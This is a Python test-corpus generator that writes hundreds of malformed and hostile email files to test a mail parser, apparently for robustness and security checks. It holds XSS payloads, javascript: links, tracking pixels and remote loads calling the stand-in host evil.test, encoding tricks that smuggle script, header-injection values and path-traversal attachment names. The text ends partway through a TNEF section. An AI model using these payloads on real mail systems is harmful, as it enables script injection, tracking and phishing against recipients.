#!/usr/bin/env python3
# SPDX-FileCopyrightText: The Throughline authors
# SPDX-License-Identifier: Apache-2.0
"""make.py FOLDER: writes the corpus of mail, the same bytes every time, as <class>-<number>.eml.

Every message holds the word WORD in its text or its subject, where a reader must find it. The hostile HTML is that of SECURITY B3; hostile.py
has more of it, and what each tries is in its header X-Tries.
"""
import base64
import os
import quopri
import struct
import sys

sys.dont_write_bytecode = True
import hostile

WORD = "Lighthouse"
count = {}
folder = ""


def put(kind, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    count[kind] = count.get(kind, 0) + 1
    with open(os.path.join(folder, f"{kind}-{count[kind]:03d}.eml"), "wb") as file:
        file.write(data)


def head(subject="Question", sender="Ada L. <ada@customer.test>", more="", ident=None, number=[0]):
    number[0] += 1
    ident = f"<{number[0]}@customer.test>" if ident is None else ident
    lines = [f"From: {sender}", "To: Shop <support@shop.test>", f"Subject: {subject}",
             "Date: Sat, 14 Mar 2026 09:26:53 +0100"]
    if ident:
        lines.append(f"Message-ID: {ident}")
    return "\r\n".join(lines) + "\r\n" + more


def plain(text, **kw):
    return head(**kw) + "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + text + "\r\n"


def html(text, **kw):
    return head(**kw) + "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + text + "\r\n"


def mixed(parts, subtype="mixed", boundary="bb", end=True, **kw):
    body = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts)
    return (head(**kw) + f"MIME-Version: 1.0\r\nContent-Type: multipart/{subtype}; boundary=\"{boundary}\"\r\n\r\n"
            + body + (f"--{boundary}--\r\n" if end else ""))


TEXT = f"Content-Type: text/plain; charset=utf-8\r\n\r\nThe {WORD} lamp is broken."


def charsets():
    words = {
        "utf-8": "Grüße æøå ł", "iso-8859-1": "Grüße", "iso-8859-15": "Grüße €", "windows-1252": "„Grüße“ €",
        "iso-8859-2": "Zażółć gęślą", "windows-1250": "Zażółć", "iso-8859-5": "Привет", "windows-1251": "Привет",
        "koi8-r": "Привет", "koi8-u": "Привіт", "iso-8859-7": "Γειά", "windows-1253": "Γειά", "iso-8859-9": "İyi ş",
        "windows-1254": "İyi ş", "iso-8859-8": "שלום", "windows-1255": "שלום", "windows-1256": "مرحبا",
        "gb2312": "你好", "gbk": "你好", "gb18030": "你好", "big5": "你好", "shift_jis": "こんにちは", "euc-jp": "こんにちは",
        "iso-2022-jp": "こんにちは", "euc-kr": "안녕", "utf-16": "Grüße", "utf-16le": "Grüße", "utf-16be": "Grüße",
        "utf-7": "Grüße", "cp437": "Grüße", "cp850": "Grüße", "cp866": "Привет", "tis-620": "สวัสดี",
    }
    for name, word in words.items():
        data = f"{WORD} {word}\n".encode(name)
        for how, body in (("base64", base64.encodebytes(data)), ("quoted-printable", quopri.encodestring(data))):
            put("charset", (head() + f"MIME-Version: 1.0\r\nContent-Type: text/plain; charset={name}\r\n"
                            f"Content-Transfer-Encoding: {how}\r\n\r\n").encode() + body)
    for name in ("x-unknown", "klingon", "utf8mb4", "", "iso-2022-cn-ext", "us-ascii", "utf-8"):
        data = f"{WORD} Gr\xfc\xdfe".encode("latin-1")
        put("charset", (head() + f"MIME-Version: 1.0\r\nContent-Type: text/plain; charset={name}\r\n\r\n").encode() + data)


def encodings():
    for subject in ("=?utf-8?Q?Lighthouse_=C3=BC?=", "=?utf-8?B?TGlnaHRob3VzZQ==?=", "=?x?Q?Lighthouse?=", "=?utf-8?Q?Lighthouse",
                    "=?iso-8859-1?q?Lighthouse?= =?utf-8?b?w7w=?=", "=?utf-8?B?!!!!?= Lighthouse", "Lighthouse \x01\x02",
                    "Lighthouse " + "\u202e" + "gpj.exe", "Lighthouse " + "x" * 100_000):
        put("encoding", plain("Hello", subject=subject))
    for how in ("7bit", "8bit", "binary", "BASE64 ", "quoted-printable", "x-uuencode", "nonsense", "base64; x"):
        put("encoding", head(subject=WORD) + f"Content-Type: text/plain\r\nContent-Transfer-Encoding: {how}\r\n\r\n"
            "VGhlIExpZ2h0aG91c2U=\r\n")
    put("encoding", head() + "Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes\r\n\r\nThe Light \r\nhouse\r\n")
    put("encoding", head(subject=WORD) + "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=")


def broken():
    put("broken", mixed([TEXT], end=False))
    put("broken", mixed([TEXT, TEXT], boundary="a" * 200))
    put("broken", head(subject=WORD) + "Content-Type: multipart/mixed\r\n\r\n--x\r\n" + TEXT + "\r\n--x--\r\n")
    put("broken", head(subject=WORD) + "Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\n" + TEXT + "\r\n----\r\n")
    put("broken", head(subject=WORD) + "Content-Type: multipart/mixed; boundary=x\r\n\r\nThe other boundary\r\n--y\r\n" + TEXT)
    put("broken", head(subject=WORD) + "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n--x\r\n--x--\r\n--x--\r\n")
    put("broken", head(subject=WORD) + "Content-Type: ;;;===\r\n\r\nThe Lighthouse\r\n")
    put("broken", head(subject=WORD) + "Content-Type: text\r\n\r\nThe Lighthouse\r\n")
    put("broken", head(subject=WORD))
    put("broken", head(subject=WORD).replace("\r\n", "\n") + "\nThe Lighthouse\n")
    put("broken", head(subject=WORD).replace("\r\n", "\r") + "\rThe Lighthouse\r")
    put("broken", "The Lighthouse without any header")
    put("broken", "\r\n\r\nThe Lighthouse below empty lines")
    put("broken", "From ada@customer.test Sat Mar 14 09:26:53 2026\r\n" + plain("The Lighthouse of an mbox"))
    put("broken", plain("The Lighthouse\0with\0NULs\0"))
    put("broken", head(subject="Light\0house Lighthouse") + "\r\nx\0y")
    put("broken", plain("The Lighthouse " + "\x1b[31m" + "\x07"))
    put("broken", plain("x" * 1_000_000 + " Lighthouse", subject=WORD))
    put("broken", plain("Lighthouse\n" * 200_000))
    for cut in range(20, 400, 20):
        put("broken", plain("The Lighthouse", subject=WORD, more="X-Filler: " + "y" * 50 + "\r\n")[:cut] + "\r\n\r\nLighthouse")
    put("parts", mixed([TEXT] + ["Content-Type: text/plain\r\n\r\nx"] * 10_000, subject=WORD))
    put("parts", mixed([TEXT] + ["Content-Type: image/png; name=a.png\r\nContent-Disposition: attachment\r\n\r\nx"] * 1_000))
    put("parts", mixed(["\r\n"] * 10_000, subject=WORD))
    for depth in (10, 40, 200, 1_000, 3_000):
        text = head(subject=WORD)
        for level in range(depth):
            text += f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n"
        put("depth", text + TEXT)
        text = head(subject=WORD)
        for level in range(depth):
            text += "Content-Type: message/rfc822\r\n\r\n" + f"Subject: level {level}\r\nFrom: a@b.test\r\n"
        put("depth", text + TEXT)


def bombs():
    put("bomb", plain("The Lighthouse", more="X-Bomb: a\r\n" * 100_000))
    put("bomb", plain("The Lighthouse", more="X-Bomb: " + "a" * 5_000_000 + "\r\n"))
    put("bomb", plain("The Lighthouse", more="X-Bomb: a\r\n" + " folded\r\n" * 100_000))
    put("bomb", plain("The Lighthouse", more="Received: from a by b\r\n" * 20_000))
    put("bomb", plain("The Lighthouse", sender="a:" * 200_000 + ";"))
    put("bomb", plain("The Lighthouse", sender="(" * 200_000 + "ada@customer.test"))
    put("bomb", plain("The Lighthouse", sender=", ".join(f"a{n}@customer.test" for n in range(50_000))))
    put("bomb", plain("The Lighthouse", more="Cc: " + "<" * 100_000 + "\r\n"))
    put("bomb", plain("The Lighthouse", more="References: " + "<a@b.test> " * 100_000 + "\r\n"))
    put("bomb", plain("The Lighthouse", more="Content-Type: text/plain;" + " a=b;" * 100_000 + "\r\n"))
    put("bomb", head(subject=WORD) + "Content-Type: message/rfc822\r\n\r\nFrom: " + "a:" * 300_000 + ";\r\n\r\nThe Lighthouse\r\n")
    put("bomb", mixed([TEXT, "Content-Type: message/rfc822\r\n\r\nTo:\r\n " + "g:" * 300_000 + "\r\n\r\nx"]))
    put("bomb", html("<div>" * 100_000 + WORD, subject=WORD))
    put("bomb", html("<p>" + "".join(f"<font color=#{n:06x}>" for n in range(1_000)) + "</p>" + "<p>x" * 10_000 + WORD, subject=WORD))
    put("bomb", html(f"<p>{WORD}</p>" + "<blockquote>" * 5_000 + "deep"))
    put("bomb", html(f"<p>{WORD}</p>" + "<ul><li>" * 5_000 + "deep"))
    put("bomb", html(f"<p>{WORD}</p>" + "<table><tr><td>" * 3_000 + "deep"))
    put("bomb", html(f"<p>{WORD}</p><table>" + "<tr>" + "<td>x" * 10_000 + "</table>"))
    put("bomb", html(f"<p>{WORD}</p>" + "<p>x</p>" * 50_000))
    put("bomb", html(f"<p>{WORD}</p><p title=\"" + "x" * 900_000 + "\">y</p>"))
    put("bomb", html(f"<p>{WORD}</p>" + "&lt;" * 100_000))
    put("bomb", html(f"<p>{WORD}</p>" + "<a href='https://a.test/" + "x" * 100_000 + "'>y</a>"))


def people():
    for ident in ("", "<>", "<a b@c>", "no-brackets@customer.test", "<" + "x" * 3_000 + "@customer.test>", "<ü@customer.test>",
                  "<1@customer.test>", "<1@customer.test>", "<1@customer.test> <2@customer.test>", "<sha256-forged>", "<<x@y>>"):
        put("id", plain("The Lighthouse", ident=ident))
    put("id", plain("The Lighthouse", more="Message-ID: <second@customer.test>\r\n"))
    for sender in ("ada@customer.test, eve@evil.test", "Ada <ada@customer.test>, Eve <eve@evil.test>", "", "nobody", "<>",
                   "\"support@shop.test\" <eve@evil.test>", "\u202etset.pohs@troppus <eve@evil.test>",
                   "=?utf-8?B?4oCuZXhlLmdwag==?= <eve@evil.test>", "Ada\u200b L. <ada@customer.test>",
                   "A" * 5_000 + " <ada@customer.test>", "<img src=x> <eve@evil.test>", "Group: a@b.test, c@d.test;",
                   "Ada <ada@BÜCHER.test>", "ADA@Customer.TEST", "ada@xn--bcher-kva.test", "a@b@c.test", "\"a b\"@c.test",
                   "=?utf-8?Q?Ada=0D=0ABcc=3A_x?= <ada@customer.test>", "ada@customer.test (Ada)", "ada@[192.0.2.1]"):
        put("people", plain("The Lighthouse", sender=sender))
    put("people", plain("The Lighthouse", more="From: Eve <eve@evil.test>\r\n"))
    put("people", plain("The Lighthouse", sender="forms@shop.test", more="Reply-To: Ada <ada@customer.test>\r\n"))
    for date in ("", "yesterday", "Mon, 1 Jan 0001 00:00:00 +0000", "Fri, 31 Dec 9999 23:59:59 +0000", "99999999999999999999",
                 "Sat, 14 Mar 2026", "14 Mar 26 9:26 PST", "Sat, 99 Foo 2026 99:99:99 +9999"):
        put("date", plain("The Lighthouse").replace("Sat, 14 Mar 2026 09:26:53 +0100", date))


def names():
    for name in ("a.exe\u200b", "invoice\u202efdp.exe", "..\\..\\x.txt", "../../etc/passwd", "CON", "con.txt", "x" * 300 + ".pdf",
                 "invoice.pdf.exe", "a.txt.", " a.txt ", "", ".", "..", "a\tb.txt", "a:b.txt", "\u2044etc", "nul.tar.gz", "ü.pdf"):
        part = ("Content-Type: application/octet-stream; name=\"" + name.replace("\\", "\\\\") + "\"\r\n"
                "Content-Disposition: attachment; filename=\"" + name.replace("\\", "\\\\") + "\"\r\n\r\nx")
        put("name", mixed([TEXT, part]))
    for value in ("filename*=utf-8''%E2%80%AEfdp.exe", "filename*0=Light; filename*1=house.txt", "filename=\"=?utf-8?Q?=C3=BC.pdf?=\"",
                  "filename*=x''%00%00", "filename=" + "y" * 10_000, "filename=a%00b"):
        put("name", mixed([TEXT, f"Content-Type: application/pdf\r\nContent-Disposition: attachment; {value}\r\n\r\nMZ"]))
    put("name", mixed([TEXT, "Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+IgAA"]))
    put("name", mixed([TEXT, "Content-Type: message/rfc822\r\n\r\nSubject: " + "/" * 300 + "\r\n\r\nx"]))


HOSTILE = [
    "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>", "<img src=x onerror=alert(1)>", "<iframe src=//evil.test></iframe>",
    "<form action=//evil.test><input name=a value=b><button>Send</button></form>", "<style>p{background:url(//evil.test/x)}</style>",
    "<p style='background:url(//evil.test/x)'>x</p>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<base href=//evil.test/>",
    "<svg onload=alert(1)><script>x</script></svg>", "<svg><foreignObject><p>x</p></foreignObject></svg>", "<math><mtext>x</mtext></math>",
    "<object data=//evil.test></object>", "<embed src=//evil.test>", "<applet code=x></applet>", "<link rel=stylesheet href=//evil.test>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='data:text/html,x'>x</a>", "<a href='vbscript:x'>x</a>", "<a href='file:///etc/passwd'>x</a>",
    "<a href='smb://evil.test/x'>x</a>", "<a href='\\\\evil.test\\x'>x</a>", "<a href='search-ms:x'>x</a>", "<a href='https:\\\\evil.test'>x</a>",
    "<a href='https://shop.test@evil.test/'>x</a>", "<a href='https://shop.test%00.evil.test'>x</a>", "<a href='//evil.test'>x</a>",
    "<a href='https://ехample.test'>x</a>", "<a href='mailto:a@b.test?bcc=eve@evil.test'>x</a>", "<a href='tel:+491234;ext=1'>x</a>",
    "<img src='http://evil.test/pixel' width=1 height=1>", "<img src='https://evil.test/big.png' width=600>", "<img src='file:///x'>",
    "<img src='data:image/png;base64,x'>", "<img src='cid:a@b'>", "<img src='cid:%0d%0a'>", "<img srcset='//evil.test/x 2x'>", "<video src=//evil.test></video>",
    "<audio src=//evil.test autoplay></audio>", "<source src=//evil.test>", "<input type=image src=//evil.test>", "<body background=//evil.test>",
    "<table background=//evil.test><tr><td>x</table>", "<!--[if mso]><p>mso</p><![endif]-->", "<![if !mso]><p>x</p><![endif]>", "<o:p>x</o:p>",
    "<xml><w:WordDocument></w:WordDocument></xml>", "<p style='display:none'>hidden</p>", "<p style='font-size:0'>hidden</p>",
    "<span style='color:#ffffff'>hidden</span>", "<font color=white>hidden</font>", "<div hidden>hidden</div>", "<p style='mso-hide:all'>hidden</p>",
    "<div style='position:absolute;left:-9999px'>hidden</div>", "<template><p>x</p></template>", "<noscript><img src=//evil.test></noscript>",
    "<textarea>x</textarea>", "<select><option>x</select>", "<title></title><img src=x>", "<plaintext>x", "<xmp><script>x</script></xmp>",
    "<p title='\"><script>alert(1)</script>'>x</p>", "<p\0>x</p>", "<<p>>x", "<p", "</p></div></html>", "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "&#0;&#x110000;&#xD800;&nosuch;", "&#x202E;evil", "<bdo dir=rtl>evil</bdo>", "<marquee>x</marquee>", "<blink>x</blink>", "<frameset><frame src=//evil.test></frameset>",
    "<b><i></b></i>", "<table><p>x<tr><td>y", "<a><a><a>x", "<p style='behavior:url(x)'>x</p>", "<div style='expression(alert(1))'>x</div>",
    "<h1>Title</h1><h7>none</h7>", "<ol start=99999999999><li>x</ol>", "<ol start=-5><li>x</ol>", "<table><tr><th>a<th>b<tr><td>1<td>2</table>",
    "<pre>a\n  b</pre>", "<hr>", "<ul>text<li>a<ul><li>b</ul></ul>", "<dl><dt>a<dd>b</dl>", "<code>x</code>", "<details><summary>x</summary>y</details>",
]


def htmls():
    for number, hostile in enumerate(HOSTILE):
        put("html", html(f"<html><body><p>The {WORD} lamp</p>{hostile}</body></html>"))
        if number % 2 == 0:
            put("html", mixed([f"Content-Type: text/plain\r\n\r\nThe {WORD} lamp",
                               f"Content-Type: text/html\r\n\r\n<p>The {WORD} lamp</p>{hostile}"], subtype="alternative"))


QUOTED = [
    "{0}\n\nOn Sat, Mar 14, 2026 at 9:26 AM Shop <support@shop.test> wrote:\n\n> Hello\n> there\n",
    "{0}\n\nOn Sat, Mar 14, 2026 at 9:26 AM Shop Support Team With A Long Name\n<support@shop.test> wrote:\n\n> Hello\n>> older\n",
    "{0}\n\nAm 14.03.2026 um 09:26 schrieb Shop <support@shop.test>:\n> Hallo\n",
    "{0}\n\nLe sam. 14 mars 2026 à 09:26, Shop <support@shop.test> a écrit :\n> Bonjour\n",
    "{0}\n\n-----Original Message-----\nFrom: Shop\nSent: Saturday\nTo: Ada\nSubject: Lamp\n\nHello\n",
    "{0}\n\n-----Ursprüngliche Nachricht-----\nVon: Shop\nGesendet: Samstag\nAn: Ada\nBetreff: Lampe\n\nHallo\n",
    "{0}\n\nVon: Shop <support@shop.test>\nGesendet: Samstag, 14. März 2026 09:26\nAn: Ada\nBetreff: Lampe\n\nHallo\n",
    "{0}\n\n________________________________\nFrom: Shop <support@shop.test>\nSent: Saturday\nTo: Ada\nSubject: Lamp\n\nHello\n",
    "{0}\n\n---------- Forwarded message ---------\nFrom: Eve <eve@evil.test>\nDate: Sat, Mar 14\nSubject: Hi\nTo: Ada\n\nHello\n",
    "---------- Forwarded message ---------\nFrom: Eve <eve@evil.test>\nDate: Sat\nSubject: Hi\n\n{0}\n",
    "> Is it on?\nYes, the {0}.\n> Since when?\nSince Monday.\n", "{0}\n-- \nAda L.\nCustomer street 1\n", "> > > > > > > > > > {0}\n", "> {0}\n",
    "On Monday I wrote:\n{0}\n", "{0}\n\n--\nAda\n\nOn Sat, 14 Mar 2026 Shop wrote:\n> Hello\n",
]
GMAIL = ("<div dir=\"ltr\">The {0} lamp</div><br><div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">On Sat, Mar 14, 2026 at "
         "9:26 AM Shop &lt;<a href=\"mailto:support@shop.test\">support@shop.test</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" "
         "style=\"margin:0px 0px 0px 0.8ex\"><div>Hello</div></blockquote></div>")
OUTLOOK = ("<html><body lang=DE><div class=WordSection1><p class=MsoNormal>The {0} lamp<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p><div>"
           "<div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'><p class=MsoNormal><b>Von:</b> Shop "
           "&lt;support@shop.test&gt; <br><b>Gesendet:</b> Samstag, 14. M&auml;rz 2026 09:26<br><b>An:</b> Ada<br><b>Betreff:</b> Lampe"
           "<o:p></o:p></p></div></div><p class=MsoNormal>Hallo<o:p></o:p></p></div></body></html>")
APPLE = ("<div>The {0} lamp</div><div><br><blockquote type=\"cite\"><div>On 14. Mar 2026, at 09:26, Shop &lt;support@shop.test&gt; wrote:</div><br>"
         "<div>Hello</div></blockquote></div>")
THUNDERBIRD = ("<p>The {0} lamp</p><div class=\"moz-cite-prefix\">Am 14.03.26 um 09:26 schrieb Shop:<br></div><blockquote type=\"cite\"><pre "
               "class=\"moz-quote-pre\" wrap=\"\">Hallo\n</pre></blockquote><div class=\"moz-signature\">-- <br>Ada</div>")


def quotes():
    for text in QUOTED:
        put("quote", plain(text.format(WORD).replace("\n", "\r\n")))
    for text in (GMAIL, OUTLOOK, APPLE, THUNDERBIRD):
        put("quote", html(text.format(WORD)))
        put("quote", mixed([f"Content-Type: text/plain\r\n\r\nThe {WORD} lamp", "Content-Type: text/html; charset=utf-8\r\n\r\n" + text.format(WORD)],
                           subtype="alternative"))


def machines():
    for action, status in (("failed", "5.1.1"), ("delayed", "4.4.7"), ("delivered", "2.0.0"), ("relayed", "2.0.0"), ("", ""), ("x" * 9_000, "y")):
        put("dsn", mixed([TEXT, "Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mail.shop.test\r\n\r\nFinal-Recipient: rfc822; "
                          f"ada@customer.test\r\nAction: {action}\r\nStatus: {status}\r\nDiagnostic-Code: smtp; 550 5.1.1 no such user\r\n",
                          "Content-Type: message/rfc822\r\n\r\nMessage-ID: <sent-1@shop.test>\r\nSubject: Re: Lamp\r\n\r\nHello"],
                         subtype="report; report-type=delivery-status", sender="MAILER-DAEMON@mail.shop.test", more="Return-Path: <>\r\n"))
    put("dsn", mixed([TEXT, "Content-Type: message/delivery-status\r\n\r\n" + "Final-Recipient: rfc822; a@b.test\r\nAction: failed\r\n\r\n" * 5_000],
                     subtype="report; report-type=delivery-status"))
    for more in ("Auto-Submitted: auto-replied\r\n", "Auto-Submitted: auto-generated\r\n", "Auto-Submitted: no\r\n", "Precedence: bulk\r\n",
                 "Precedence: auto_reply\r\n", "List-Id: <x.list.test>\r\n", "List-Unsubscribe: <https://list.test/x>\r\n", "X-Autoreply: yes\r\n",
                 "X-Auto-Response-Suppress: All\r\n", "Return-Path: <>\r\n", "X-Failed-Recipients: a@b.test\r\n", "Feedback-ID: x\r\n"):
        put("auto", plain("The Lighthouse", more=more))
    calendar = ("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@customer.test\r\nSUMMARY:Lighthouse\\, second\r\n floor\r\n{0}\r\nORGANIZER;CN=\"Ada "
                "L.\":mailto:ada@customer.test\r\nBEGIN:VALARM\r\nSUMMARY:Alarm\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    for start in ("DTSTART:20260314T092653Z\r\nDTEND:20260314T102653Z", "DTSTART;TZID=Europe/Berlin:20260314T092653", "DTSTART;VALUE=DATE:20260314",
                  "DTSTART;TZID=W. Europe Standard Time:20260314T092653", "DTSTART;TZID=Moon/Crater:20260314T092653", "DTSTART:never",
                  "X-Y:" + "z" * 100_000, "BEGIN:VEVENT\r\n" * 1_000):
        put("invitation", mixed([TEXT, "Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\n" + calendar.format(start)],
                                subtype="alternative"))
    put("sealed", mixed(["Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1", "Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----"],
                        subtype="encrypted", subject=WORD))
    put("sealed", head(subject=WORD) + "Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAG\r\n")
    put("sealed", mixed([TEXT, "Content-Type: application/pgp-signature\r\n\r\nx"], subtype="signed"))


def tries(what):
    return {"more": f"X-Tries: {what}\r\n"}


def more_htmls():
    for what, markup in hostile.REQUESTS + hostile.SCRIPTS + hostile.LINKS + hostile.COVERED + hostile.LARGE:
        put("html", html(f"<p>The {WORD} lamp</p>{markup}", **tries(what)))
    for what, markup in hostile.QUOTING:
        put("quote", html(f"<div>The {WORD} lamp</div><br>{markup}", **tries(what)))
    for what, sender in hostile.SENDERS:
        put("people", html(f"<p>The {WORD} lamp</p>", sender=sender, **tries(what)))
    for what, more in hostile.HEADERS:
        put("header", html(f"<p>The {WORD} lamp</p>", more=f"X-Tries: {what}\r\n{more}"))


def encoded_htmls():
    """The same few words of HTML, where the way there is the trick."""
    page = f"<p>The {WORD} lamp</p><p>Grüße, <a href='https://evil.test/'>here</a></p>"

    def coded(what, kind, how, body):
        put("htmlcode", (head(**tries(what)) + f"MIME-Version: 1.0\r\nContent-Type: text/html{kind}\r\nContent-Transfer-Encoding: {how}\r\n\r\n").encode() + body)

    coded("UTF-16 with its mark", "; charset=utf-16", "base64", base64.encodebytes(page.encode("utf-16")))
    coded("UTF-7, named by the page only", "", "7bit", b"<meta charset=utf-7><p>The Lighthouse lamp</p>+ADw-script+AD4-go()+ADw-/script+AD4-")
    coded("two charsets, the header's and the page's", "; charset=iso-8859-1", "8bit", f"<meta charset=utf-8>{page}".encode())
    coded("a letter of two bytes that eats a quotation mark", "; charset=shift_jis", "8bit", f"<p>The {WORD} lamp</p><p title=\"".encode() + b"\x81\" onclick=go() x=\">y</p>")
    coded("tags over lines that are none", "; charset=utf-8", "quoted-printable", page.replace("=", "=3D").replace("<a ", "<=\r\na=\r\n ").encode("utf-8"))
    coded("lines of nonsense in base64", "; charset=utf-8", "base64", base64.encodebytes(page.encode()).replace(b"\n", b"\n!!**\n", 1))
    coded("no HTML at all", "; charset=utf-8", "8bit", f"The {WORD} lamp\nand a < b && c > d".encode())
    coded("escapes of a terminal", "; charset=utf-8", "8bit", f"<p>The {WORD} lamp</p><p>\x1b]0;x\x07\x1b[2J</p>".encode())
    coded("bytes that are no UTF-8", "; charset=utf-8", "8bit", f"<p>The {WORD} lamp</p><p>".encode() + b"\xc0\xbcscript\xc0\xbe \xed\xa0\x80 \xf5\x80\x80\x80</p>")


def parted_htmls():
    """HTML in parts that say different things, or refer to each other."""
    page = f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>The {WORD} lamp</p>"
    picture = "Content-Type: image/png\r\nContent-ID: <p@x>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo="

    def parts(what, list_, subtype, **kw):
        put("htmlpart", mixed(list_, subtype=subtype, **{**tries(what), **kw}))

    parts("the HTML first", [page, f"Content-Type: text/plain\r\n\r\nThe {WORD} lamp"], "alternative")
    parts("two texts that say different things", [f"Content-Type: text/plain\r\n\r\nThe {WORD} lamp costs 10", page + "<p>It costs 1000, pay <a href='https://evil.test/'>here</a></p>"], "alternative")
    parts("a quotation mark open over three parts", [page + "<img src=\"https://evil.test/", "Content-Type: text/plain\r\n\r\nthe words between", "Content-Type: text/html\r\n\r\n\">"], "mixed")
    parts("a picture of its own, a picture of itself", [page.replace("charset=utf-8", "charset=utf-8\r\nContent-ID: <self@x>") + "<img src='cid:p@x'><img src='cid:self@x'>", picture], "related")
    parts("a drawing with a script for a picture", [page + "<img src='cid:s@x'>", "Content-Type: image/svg+xml\r\nContent-ID: <s@x>\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg'><script>go()</script><image href='//evil.test/i.png'/></svg>"], "related")
    parts("a page for a picture", [page + "<img src='cid:p@x'>", picture.replace("iVBORw0KGgo=", base64.b64encode(b"<html><script>go()</script>").decode())], "related")
    parts("pictures by their places", [page.replace("text/html;", "text/html; x=y;").replace("\r\n\r\n", "\r\nContent-Location: https://evil.test/a/\r\n\r\n") + "<img src='b.png'>", picture.replace("Content-ID: <p@x>", "Content-Location: https://evil.test/a/b.png")], "related")
    parts("a third text for phones", [f"Content-Type: text/plain\r\n\r\nThe {WORD} lamp", "Content-Type: text/x-amp-html\r\n\r\n<html amp4email><amp-form></amp-form>", page], "alternative")
    parts("a page that is a file", [TEXT, "Content-Type: text/html; name=\"invoice.html\"\r\nContent-Disposition: attachment; filename=\"invoice.html\"\r\n\r\n<script>location='https://evil.test'</script>"], "mixed")
    parts("twenty pages", [page] + ["Content-Type: text/html\r\n\r\n<p>more</p><img src='https://evil.test/x.png'>"] * 25, "mixed")
    parts("what no delivery says, in HTML", [page, "Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: rfc822; <script>@b.test\r\nAction: failed\r\nStatus: 5.1.1\r\n"
           "Diagnostic-Code: smtp; 550 <img src=//evil.test/d.png>\u202e\r\n", "Content-Type: text/rfc822-headers\r\n\r\nMessage-ID: <\u202e1@shop.test>\r\n"], "report; report-type=delivery-status", sender="Postmaster <postmaster@evil.test>")
    parts("a delivery in all letters", [page, "Content-Type: message/global-delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: utf-8; ü@bücher.test\r\nAction: failed\r\nStatus: 5.6.7\r\n"], "report; report-type=delivery-status")
    parts("a receipt that was not asked for", [page, "Content-Type: message/disposition-notification\r\n\r\nFinal-Recipient: rfc822; a@b.test\r\nOriginal-Message-ID: <1@shop.test>\r\nDisposition: manual-action/MDN-sent-manually; displayed\r\n"], "report; report-type=disposition-notification")
    parts("a complaint", [page, "Content-Type: message/feedback-report\r\n\r\nFeedback-Type: abuse\r\nUser-Agent: x/1\r\nVersion: 1\r\n", "Content-Type: message/rfc822\r\n\r\nSubject: x\r\n\r\ny"], "report; report-type=feedback-report")
    parts("a digest of a list", [page] + [f"Content-Type: message/rfc822\r\n\r\nFrom: a{n}@b.test\r\nSubject: {n}\r\nContent-Type: text/html\r\n\r\n<img src='//evil.test/{n}.png'>" for n in range(80)], "mixed", more="X-Tries: a digest of a list\r\nList-Id: <d.list.test>\r\n")
    parts("a mail sealed for others beside one that is not", [page, "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=in\r\n\r\n--in\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--in\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n--in--"], "mixed")
    meeting = "BEGIN:VCALENDAR\r\nMETHOD:{1}\r\nBEGIN:VEVENT\r\nUID:1@customer.test\r\nSUMMARY:Lamp\r\nDTSTART:20260314T092653Z\r\n{0}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    for number, (what, lines) in enumerate(hostile.MEETINGS):
        method = ("REQUEST", "CANCEL", "REPLY", "COUNTER", "PUBLISH", "ADD", "<b>x</b>")[number]
        put("invitation", mixed([page, f"Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\n" + meeting.format(lines, method)], subtype="alternative", **tries(what)))


def tnefs():
    """What Outlook packs into a winmail.dat, and what it never did."""
    def attribute(level, number, value):
        return struct.pack("<BII", level, number, len(value)) + value + struct.pack("<H", sum(value) & 0xffff)

    def prop(number, kind, value):
        return struct.pack("<HHII", kind, number, 1, len(value)) + value + b"\0" * (-len(value) % 4)

    def properties(*list_):
        return struct.pack("<I", len(list_)) + b"".join(list_)

    def file(name, value):
        return attribute(2, 0x69002, b"\0" * 14) + attribute(2, 0x6800f, value) + attribute(2, 0x18010, name + b"\0")

    start = struct.pack("<IH", 0x223e9f78, 1) + attribute(1, 0x69007, struct.pack("<II", 1252, 0))
    page = f"<p>The {WORD} lamp</p><script>go()</script><img src='https://evil.test/x.png'>".encode()
    rtf = b"{\\rtf1\\ansi{\\object\\objdata 01050000}{\\*\\generator x}{\\field{\\*\\fldinst INCLUDEPICTURE \"https://evil.test/x\"}{\\fldrslt The Lighthouse lamp}}}"
